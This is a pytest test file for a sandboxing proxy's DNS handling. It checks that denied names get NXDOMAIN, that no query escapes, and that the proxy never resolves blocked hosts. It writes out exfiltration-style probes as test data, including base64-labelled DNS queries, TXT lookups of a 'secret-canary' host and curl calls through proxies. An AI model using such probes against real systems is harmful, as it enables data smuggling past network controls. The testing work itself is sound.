"""Names: what an attempt learns from the DNS, and that no question of its ever leaves."""

from __future__ import annotations

import pytest

from proxy.network import Reason
from tests.lab import BLOCK, NAMED, OPEN, REGISTRY, Call, Lab, Outside, named, unconfined

NXDOMAIN = 3
SERVERS = ["8.8.8.8", "1.1.1.1", "10.0.0.53", "127.0.0.1", "2001:4860:4860::8888", "::1"]
KINDS = {
    "A": 1, "NS": 2, "CNAME": 5, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "NAPTR": 35,
    "SVCB": 64, "HTTPS": 65, "AXFR": 252, "ANY": 255,
}  # fmt: skip


@pytest.mark.parametrize("tcp", [False, True], ids=["udp", "tcp"])
@pytest.mark.parametrize(
    ("call", "reason"),
    [(BLOCK, Reason.NETWORK_OFF), (NAMED, Reason.HOST_NOT_ALLOWED), (REGISTRY, Reason.HOST_NOT_ALLOWED)],
    ids=["block-all", "named", "registry-default"],
)
def test_a_denied_name_does_not_exist_whoever_is_asked(
    lab: Lab, outside: Outside, call: Call, reason: Reason, tcp: bool
) -> None:
    """A question to any server over any family and transport is NXDOMAIN, and no server gets it."""
    probe = f"""
for server in {SERVERS}:
    report(server=server, seen=dns("secret-canary.other.test", 16, server, {tcp}))
    report(server=server, seen=dns("other.test", 1, server, {tcp}))
"""
    with outside.silence():
        run = lab.run(probe, call)
    seen = {one["server"]: one["seen"] for one in run.seen}
    assert len(seen) == len(SERVERS), run.result.stderr
    for server in ("8.8.8.8", "1.1.1.1", "10.0.0.53", "2001:4860:4860::8888"):
        assert seen[server] == {"code": NXDOMAIN, "answers": 0, "error": None}, server
    assert all(one["answers"] == 0 for one in seen.values())
    assert run.reasons == {reason}
    assert {event["layer"] for event in run.denials} == {"dns"}
    assert {event["host"] for event in run.denials} >= {"secret-canary.other.test", "other.test"}

    outside.forget()
    assert [one["seen"]["answers"] for one in unconfined(probe) if one["server"] == "8.8.8.8"][1] == 1
    assert "secret-canary.other.test" in outside.dns.names()


@pytest.mark.parametrize("name", ["other.test", "secret.denied.test", "x." * 60 + "other.test"])
def test_the_libc_resolver_fails_at_once(lab: Lab, outside: Outside, name: str) -> None:
    """`getaddrinfo` for a denied name says that it does not exist, not that one should try again."""
    with outside.silence():
        run = lab.run(f'report(seen=resolve("{name}"))', NAMED)
    assert run.only["seen"]["addresses"] == []
    assert "not known" in run.only["seen"]["error"]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("call", [NAMED, OPEN], ids=["named", "unrestricted"])
def test_no_kind_of_question_leaks_for_an_allowed_name(lab: Lab, outside: Outside, call: Call, kind: str) -> None:
    """An allowed name has an address and nothing else, and its look-up asks nobody: labels below it carry no data out."""
    with outside.silence():
        run = lab.run(
            f"""
for name in ("allowed.test", "ZGF0YQ.exfil.allowed.test"):
    report(udp=dns(name, {KINDS[kind]}), tcp=dns(name, {KINDS[kind]}, tcp=True))
""",
            call,
        )
    for one in run.seen:
        for seen in one.values():
            assert seen["answers"] == (1 if kind == "A" else 0), seen
            assert seen["code"] in ((0,) if kind == "A" else (0, NXDOMAIN, 4, 5)), seen


def test_garbage_to_the_resolver_is_survived(lab: Lab, outside: Outside) -> None:
    """What is not a question gets no answer of value, and the next question is answered."""
    with outside.silence():
        run = lab.run(
            """
for payload in (b"", b"\\0", b"\\xff" * 12, b"\\0" * 512, bytes(range(256)) * 200):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect(("8.8.8.8", 53))
        sock.send(payload)
    with socket.create_connection(("8.8.8.8", 53), PATIENCE) as sock:
        sock.sendall(payload[:2] + payload)
        sock.shutdown(socket.SHUT_WR)
        read_all(sock)
report(after=dns("allowed.test"))
""",
            NAMED,
        )
    assert run.only["after"] == {"code": 0, "answers": 1, "error": None}


def test_an_address_is_the_attempts_own(lab: Lab) -> None:
    """The address that a name has in one attempt leads nowhere in another, unless it too may reach the name."""
    first = lab.run('report(seen=resolve("allowed.test"))', NAMED).only["seen"]["addresses"]
    assert len(first) == 1
    run = lab.run(
        f'report(seen=exchange("{first[0]}", 80, b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"))',
        named("six.test"),
    )
    assert "403" in run.only["seen"]["answer"].split("\n")[0] or not run.only["seen"]["answer"]
    assert run.denials


@pytest.mark.parametrize(
    "probe",
    [
        'subprocess.run(["curl", "-sm", "20", "-x", os.environ["HTTP_PROXY"], "http://secret-canary.other.test/"])',
        'subprocess.run(["curl", "-sm", "20", "-x", os.environ["HTTP_PROXY"], "-p", "http://secret-canary.other.test/"])',
        'subprocess.run(["curl", "-skm", "20", "-x", os.environ["HTTP_PROXY"], "https://secret-canary.other.test/"])',
        'subprocess.run(["curl", "-skm", "20", "--socks5-hostname", "%s:%s" % proxy_address(), "https://secret-canary.other.test/"])',
    ],
    ids=["absolute-uri", "connect-80", "connect-443", "socks5"],
)
@pytest.mark.parametrize("call", [BLOCK, NAMED], ids=["block-all", "named"])
def test_the_proxy_looks_up_no_denied_name(lab: Lab, outside: Outside, call: Call, probe: str) -> None:
    """The proxy asks no DNS server for a name that it denies, whichever way the name came."""
    with outside.silence():
        run = lab.run(f"import subprocess\n{probe}\nreport(done=True)", call)
    assert run.only["done"]
    assert run.reasons == {Reason.NETWORK_OFF if call is BLOCK else Reason.HOST_NOT_ALLOWED}
    outside.forget()
    lab.run('fetch("http://other.test/")', named("other.test"))
    assert "other.test" in outside.dns.names() or not outside.other.untouched
